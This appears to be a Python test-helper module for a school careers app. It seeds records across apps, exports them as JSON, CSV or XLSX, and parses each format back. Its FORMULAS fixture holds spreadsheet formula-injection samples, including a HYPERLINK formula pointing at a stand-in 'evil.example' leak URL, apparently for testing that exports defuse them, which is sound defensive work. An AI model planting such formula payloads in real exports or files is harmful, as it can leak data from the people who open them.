"""Filling a school with records in many apps, exporting it, and reading each format back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from dataclasses import dataclass, field
from typing import Any

from openpyxl import load_workbook

from roadahead.activities import services as activity_services
from roadahead.activities.services import ParticipationInput
from roadahead.api.models import ApiToken, hash_token, new_token
from roadahead.exports import registry, services
from roadahead.guidance import services as guidance_services
from roadahead.people.models import Pupil
from roadahead.schools.models import School
from tests import factories
from tests.activities.conftest import make_activity
from tests.conftest import SchoolWorld
from tests.events.helpers import make_event, make_link
from tests.guidance.factories import meeting

EXPORTED_AT = dt.datetime(2026, 3, 10, 10, 0, tzinfo=dt.UTC)
# Text that a spreadsheet would run as a formula, where `fill(formulas=True)` puts it: (table, column).
FORMULAS = {("activities.participation", "response"): '=HYPERLINK("https://evil.example/?leak","Click me")',
            ("activities.participation", "staff_note"): "+44 1234 567890",
            ("guidance.guidancemeeting", "pupil_words"): "-2 degrees is too cold for outside work",
            ("guidance.guidancemeeting", "discussed"): "@SUM(A1:A9)"}


@dataclass
class Filled:
    world: SchoolWorld
    secrets: list[str] = field(default_factory=list)


def fill(world: SchoolWorld, *, words: str = "I liked the fire engine", formulas: bool = False) -> Filled:
    """Records in many apps for `world`: activities with participations and a revision, an event with
    stallholders and a one-time feedback link, a guidance meeting with an action, an API token,
    many-to-many links, and the audit entries the services write."""
    school = world.school
    filled = Filled(world)
    provider = factories.ProviderFactory(school=school, name=f"{words} Provider")
    pathway = factories.PathwayFactory(school=school)
    pathway.in_keeping_destinations.add(factories.DestinationCategoryFactory(school=school))
    activity = make_activity(world, title=f"Talk: {words}")
    activity.providers.add(provider)
    entries = [ParticipationInput(pupil=p, response=words) for p in Pupil.objects.filter(school=school)]
    activity_services.record_participations(activity=activity, by=world.careers_leader.user, entries=entries)
    # Recording again with other words keeps the first as a revision.
    extra = {c: v for (t, c), v in FORMULAS.items() if t == "activities.participation"} if formulas else {
        "response": f"{words}, really"}
    activity_services.record_participations(activity=activity, by=world.careers_leader.user,
                                            entries=[ParticipationInput(pupil=world.pupils[0], **extra)])
    event = make_event(world, title=f"Fair: {words}")
    filled.secrets.append(make_link(world, event))
    said = {c: v for (t, c), v in FORMULAS.items() if t == "guidance.guidancemeeting"} if formulas else {
        "pupil_words": words}
    meeting(world.adviser_pupils[0], world.adviser, **said,
            actions=[guidance_services.ActionInput(description=f"Visit: {words}")])
    raw = new_token()
    ApiToken.objects.create(school=school, user=world.careers_leader.user, name="script", key_hash=hash_token(raw))
    filled.secrets.append(raw)
    return filled


def export(school: School, file_format: str, *, by: Any = None) -> bytes:
    out = io.BytesIO()
    services.export_school(school=school, by=by, file_format=file_format, out=out, exported_at=EXPORTED_AT)
    return out.getvalue()


@dataclass
class Read:
    """A table as a format gives it back: column names and rows of cells."""

    columns: list[str]
    rows: list[list[Any]]

    def column(self, name: str) -> list[Any]:
        index = self.columns.index(name)
        return [row[index] for row in self.rows]


def read_json(content: bytes) -> dict[str, Read]:
    document = json.loads(content)
    return {key: Read(t["columns"], t["rows"]) for key, t in document["tables"].items()}


def read_csv_zip(content: bytes) -> dict[str, Read]:
    found = {}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if not name.endswith(".csv"):
                continue
            text = archive.read(name).decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline="")))
            found[name.removesuffix(".csv")] = Read(rows[0], rows[1:])
    return found


def read_xlsx(content: bytes) -> dict[str, Read]:
    """Each table, gathered from its sheets through the About sheet's list of sheet and table."""
    book = load_workbook(io.BytesIO(content), read_only=True)
    about = [list(r) for r in book["About"].iter_rows(values_only=True)]
    start = next(i for i, r in enumerate(about) if r and r[0] == "Sheet") + 1
    found: dict[str, Read] = {}
    for row in about[start:]:
        if not row or row[0] is None or row[1] is None:
            break
        sheet, key = row[0], row[1]
        values = [list(r) for r in book[sheet].iter_rows(values_only=True)]
        if key in found:
            found[key].rows.extend(values[1:])
        else:
            found[key] = Read([str(v) for v in values[0]], values[1:])
    book.close()
    return found


READERS = {"json": read_json, "csv": read_csv_zip, "xlsx": read_xlsx}


def read(file_format: str, content: bytes) -> dict[str, Read]:
    return READERS[file_format](content)


def all_text(file_format: str, content: bytes) -> str:
    """Everything a person could find in the file, as text (archives unpacked)."""
    if file_format == "json":
        return content.decode("utf-8")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "\n".join(archive.read(name).decode("utf-8", errors="replace") for name in archive.namelist())


def table(key: str) -> registry.Table:
    return next(t for t in registry.tables() if t.key == key)
